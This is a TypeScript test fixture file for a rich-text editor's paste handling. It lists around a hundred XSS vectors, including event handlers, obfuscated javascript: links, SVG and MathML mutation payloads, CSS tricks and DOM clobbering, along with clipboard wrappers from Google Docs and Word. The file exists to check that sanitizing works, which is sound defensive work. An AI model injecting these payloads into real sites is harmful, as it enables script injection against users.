import { xssFixtures } from '../ui/paste/corpus-xss';
import type { PasteFixture } from '../ui/paste/fixture';

// A hostile clipboard corpus, in the paste corpus's format (e2e/ui/paste/fixture.ts). Every
// payload would set window.__pwned if any part of it ran. Nothing here asserts what text
// survives: only that nothing executable does (xss.spec.ts checks the editor state, the preview
// and the renderers' output, and that no handler ever fires).
const PWN = 'window.__pwned=(window.__pwned||0)+1';
const fx = (name: string, html: string): PasteFixture => ({ name, html, expect: {} });

/** Hand-written vectors. */
const vectors: PasteFixture[] = [
  // Event handlers, every spelling.
  fx('img onerror unquoted', `<p>a<img src=x onerror=${PWN}>b</p>`),
  fx('img onerror mixed case', `<p><IMG SRC=x OnErRoR="${PWN}">photo</p>`),
  fx('img slash separators', `<p>x<img/src/onerror=${PWN}>y</p>`),
  fx('img srcset onerror', `<p><img srcset="nope 1x" onerror="${PWN}">set</p>`),
  fx('img javascript src', `<p><img src="javascript:${PWN}">js src</p>`),
  fx('input image onerror', `<p><input type=image src=x onerror="${PWN}">input</p>`),
  fx('input autofocus onfocus', `<p>field <input autofocus onfocus="${PWN}"></p>`),
  fx('textarea autofocus onfocus', `<textarea autofocus onfocus="${PWN}">t</textarea><p>after</p>`),
  fx('select autofocus onfocus', `<select autofocus onfocus="${PWN}"><option>o</option></select><p>after</p>`),
  fx('video source onerror', `<video><source onerror="${PWN}"></video><p>clip</p>`),
  fx('audio onerror', `<audio src=x onerror="${PWN}"></audio><p>sound</p>`),
  fx('body onload', `<body onload="${PWN}"><p>body</p></body>`),
  fx('marquee onstart', `<marquee onstart="${PWN}">ticker</marquee>`),
  fx('details ontoggle no quotes', `<details/open/ontoggle=${PWN}><summary>s</summary>d</details>`),
  fx('div ondragstart', `<div draggable=true ondragstart="${PWN}">drag me</div>`),
  fx('p onbeforeinput', `<p contenteditable onbeforeinput="${PWN}">type here</p>`),
  fx('onanimationstart with keyframes', `<style>@keyframes k{}</style><p style="animation-name:k" onanimationstart="${PWN}">animated</p>`),
  fx('span onfocusin tabindex', `<p><span tabindex=1 onfocusin="${PWN}">focus</span></p>`),
  fx('handler on a safe link', `<p><a href="https://example.org/" onclick="${PWN}" onmouseover="${PWN}">safe link</a></p>`),
  fx('handler on heading', `<h2 onclick="${PWN}">Heading</h2>`),
  fx('handler on list item', `<ul><li onmouseenter="${PWN}">item</li></ul>`),
  fx('handler on bold', `<p><strong onpointerover="${PWN}">bold</strong> text</p>`),
  fx('frameset onload', `<frameset onload="${PWN}"><frame src="x"></frameset>`),
  fx('table background', `<table background="javascript:${PWN}"><tr><td background="javascript:${PWN}">cell</td></tr></table>`),
  // Scripts.
  fx('script data: src', `<script src="data:text/javascript,${PWN}"></script><p>s</p>`),
  fx('script type module', `<script type=module>${PWN}</script><p>m</p>`),
  fx('script in svg', `<svg><script>${PWN}</script></svg><p>svg script</p>`),
  fx('script with href in svg', `<svg><script href="data:,${PWN}"></script></svg><p>svg script href</p>`),
  fx('script split by comment', `<scr<!-- -->ipt>${PWN}</scr<!-- -->ipt><p>split</p>`),
  fx('script nested in script name', `<scr<script>ipt>${PWN}</scr</script>ipt><p>nested</p>`),
  // SVG.
  fx('svg onload slash', `<svg/onload=${PWN}><p>svg</p>`),
  fx('svg animate onbegin', `<svg><animate onbegin="${PWN}" attributeName=x dur=1s></animate></svg><p>anim</p>`),
  fx('svg a xlink:href javascript', `<svg><a xlink:href="javascript:${PWN}"><text x=20 y=20>svg link</text></a></svg>`),
  fx('svg animate href to javascript', `<svg><a><animate attributeName=href values="javascript:${PWN}"/><text x=20 y=20>click</text></a></svg>`),
  fx('svg set onmouseover', `<svg><set attributeName="onmouseover" to="${PWN}"/></svg><p>set</p>`),
  fx('svg use data: image', `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${PWN}'/></svg>#x"/></svg>`),
  fx('svg foreignObject iframe srcdoc', `<svg><foreignObject><iframe srcdoc="<script>parent.${PWN}</script>"></iframe></foreignObject></svg>`),
  fx('svg image onerror', `<svg><image href="x" onerror="${PWN}"/></svg><p>img</p>`),
  fx('svg style img', `<svg><style><img src=x onerror=${PWN}></style></svg><p>svg style</p>`),
  fx('svg handler on title', `<svg><title onload="${PWN}">t</title></svg><p>title</p>`),
  // javascript: hidden with entities, whitespace and case.
  fx('link leading spaces', `<p><a href="   javascript:${PWN}">spaces</a></p>`),
  fx('link mixed case scheme', `<p><a href="JaVaScRiPt:${PWN}">case</a></p>`),
  fx('link newline entity', `<p><a href="java&#x0A;script:${PWN}">newline</a></p>`),
  fx('link carriage return entity', `<p><a href="java&#x0D;script:${PWN}">cr</a></p>`),
  fx('link named tab and newline', `<p><a href="j&Tab;a&NewLine;v&Tab;ascript:${PWN}">named</a></p>`),
  fx('link named colon', `<p><a href="&#x6A;avascript&colon;${PWN}">colon</a></p>`),
  fx('link decimal colon', `<p><a href="javascript&#58;${PWN}">dec colon</a></p>`),
  fx('link hex colon', `<p><a href="javascript&#x3A;${PWN}">hex colon</a></p>`),
  fx('link padded decimals without semicolons', `<p><a href="&#0000106&#0000097vascript:${PWN}">padded</a></p>`),
  fx('link leading control character', `<p><a href="\u0001javascript:${PWN}">ctl</a></p>`),
  fx('link leading form feed entity', `<p><a href="&#12;javascript:${PWN}">ff</a></p>`),
  fx('link shift-out entity', `<p><a href="&#14;javascript:${PWN}">so</a></p>`),
  fx('link uppercase entity scheme', `<p><a href="&#74;&#65;&#86;&#65;&#83;&#67;&#82;&#73;&#80;&#84;:${PWN}">upper</a></p>`),
  fx('link vbscript', `<p><a href="vbscript:msgbox(1)">vb</a></p>`),
  fx('link data text/html', `<p><a href="data:text/html,<script>${PWN}</script>">data</a></p>`),
  fx('link data svg base64', `<p><a href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">svg data</a></p>`),
  fx('link javascript polyglot', `<p><a href="javascript:/*--></title></style></textarea></script><svg/onload=${PWN}>">poly</a></p>`),
  fx('link unquoted javascript', `<p><a href=javascript:${PWN}>unquoted</a></p>`),
  fx('link javascript in nested formatting', `<p><b><i><a href="javascript:${PWN}">deep</a></i></b></p>`),
  fx('area javascript', `<map name=m><area shape=rect coords=0,0,9,9 href="javascript:${PWN}"></map><p>map</p>`),
  // CSS tricks.
  fx('css expression', `<div style="width:expression(${PWN})">expression</div>`),
  fx('css url javascript attribute', `<p style="background:url(javascript:${PWN})">bg</p>`),
  fx('css url javascript entity-escaped', `<p style="background:url(&#106;avascript:${PWN})">bg entity</p>`),
  fx('css escaped expression', `<p style="width:exp\\ression(${PWN})">css escape</p>`),
  fx('css behavior and moz-binding', `<p style="behavior:url(#default#time2);-moz-binding:url(https://evil.example/x.xml#x)">binding</p>`),
  fx('css import javascript', `<style>@import 'javascript:${PWN}';</style><p>import</p>`),
  fx('css font-face src', `<style>@font-face{font-family:x;src:url(javascript:${PWN})}</style><p>font</p>`),
  fx('link stylesheet javascript', `<link rel=stylesheet href="javascript:${PWN}"><p>link rel</p>`),
  fx('css overlay clickjack', `<p><a href="https://example.org" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">overlay</a></p>`),
  // <base>, meta, srcdoc, formaction.
  fx('base javascript then relative link', `<base href="javascript:/"><p><a href="${PWN}">rel</a></p>`),
  fx('base remote', `<base target="_blank" href="https://evil.example/"><p><a href="x">remote base</a></p>`),
  fx('meta csp relaxation', `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"><p>meta csp</p>`),
  fx('meta refresh data', `<meta http-equiv=refresh content="0;url=data:text/html,<script>${PWN}</script>"><p>refresh</p>`),
  fx('iframe srcdoc script', `<iframe srcdoc="<script>parent.${PWN}</script>"></iframe><p>srcdoc</p>`),
  fx('iframe srcdoc entity img', `<iframe srcdoc="&lt;img src=x onerror=parent.${PWN}&gt;"></iframe><p>srcdoc entity</p>`),
  fx('iframe javascript src', `<iframe src="javascript:parent.${PWN}"></iframe><p>iframe js</p>`),
  fx('button formaction', `<form><button formaction="javascript:${PWN}">go</button></form><p>fa</p>`),
  fx('button form attribute formaction', `<form id=f1></form><button form=f1 formaction=javascript:${PWN}>x</button><p>form attr</p>`),
  fx('input submit formaction', `<form><input type=submit formaction="javascript:${PWN}" value=send></form><p>submit</p>`),
  fx('isindex action', `<isindex type=image src=1 onerror=${PWN} action=javascript:${PWN}><p>isindex</p>`),
  fx('object javascript data', `<object data="javascript:${PWN}"></object><p>object</p>`),
  fx('embed javascript src', `<embed src="javascript:${PWN}"><p>embed</p>`),
  // Template / noscript / raw-text confusion and mutation XSS.
  fx('template content', `<template><img src=x onerror="${PWN}"></template><p>template</p>`),
  fx('template in paragraph', `<p>t<template><script>${PWN}</script></template>u</p>`),
  fx('noscript img', `<noscript><img src=x onerror="${PWN}"></noscript><p>noscript</p>`),
  fx('noscript style escape', `<noscript><style></noscript><img src=x onerror="${PWN}">`),
  fx('noscript title attribute', `<noscript><a title="</noscript><img src=x onerror=${PWN}>">n</a></noscript>`),
  fx('DOMPurify 2.0.0 svg p style', `<svg></p><style><a id="</style><img src=1 onerror=${PWN}>">`),
  fx('DOMPurify 2.0.17 mglyph textarea', `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${PWN} src=1>">`),
  fx('DOMPurify 2.2.2 nested forms', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${PWN}>`),
  fx('math annotation-xml', `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${PWN}></style></annotation-xml></math>`),
  fx('math href', `<math href="javascript:${PWN}"><mi>x</mi></math><p>math href</p>`),
  fx('title raw text', `<title><img src=x onerror="${PWN}"></title><p>title</p>`),
  fx('textarea raw text', `<textarea><img src=x onerror="${PWN}"></textarea><p>textarea</p>`),
  fx('xmp raw text', `<xmp><img src=x onerror="${PWN}"></xmp><p>xmp</p>`),
  fx('listing entity reparse', `<listing>&lt;img src=x onerror=${PWN}&gt;</listing><p>listing</p>`),
  fx('comment breakout', `<!--<img src="--><img src=x onerror=${PWN}//">`),
  fx('cdata breakout', `<![CDATA[><img src=x onerror=${PWN}>]]><p>cdata</p>`),
  fx('processing instruction', `<?xml-stylesheet href="javascript:${PWN}"?><p>pi</p>`),
  fx('attribute with backticks', `<p><img src=\`x\` onerror=\`${PWN}\`>bt</p>`),
  fx('plaintext swallows the rest', `<p>before</p><plaintext><img src=x onerror=${PWN}>`),
  // DOM clobbering and the editor's own attributes.
  fx('clobber __pwned by id', `<p><a id="__pwned" href="https://example.org/">id</a><img name="__pwned" src="x"></p>`),
  fx('clobber document properties', `<form name="getElementById"></form><img name="createElement"><p id="copydesk">clobber</p>`),
  fx('spoofed lexical attributes', `<p><span data-lexical-decorator="true" data-lexical-text="true" onclick="${PWN}">spoof</span></p>`),
];

/** Clipboard wrappers real editors produce, to check the vectors survive no cleaning path. */
const contexts: Array<[string, (html: string) => string]> = [
  [
    'google docs',
    (html) => `<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-1a2b3c4d-7fff-1b2c-3d4e-5f6a7b8c9d0e">${html}</b>`,
  ],
  [
    'word',
    (html) =>
      `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style><!-- p.MsoNormal {margin:0cm} --></style></head><body><!--StartFragment-->${html}<!--EndFragment--></body></html>`,
  ],
  ['list item', (html) => `<ul><li>${html}</li></ul>`],
  ['link text', (html) => `<p><a href="https://example.org/">${html}</a></p>`],
];

/** The existing paste corpus's XSS fixtures, each inside every wrapper. */
const composed: PasteFixture[] = xssFixtures.flatMap((fixture) =>
  contexts.map(([context, wrap]) => fx(`${fixture.name.replace(/^xss: /, '')} in ${context}`, wrap(fixture.html))),
);

export const securityXssCorpus: PasteFixture[] = [...vectors.map((f) => ({ ...f, name: `xss+: ${f.name}` })), ...composed.map((f) => ({ ...f, name: `xss+: ${f.name}` }))];
export const ownVectorCount = vectors.length;
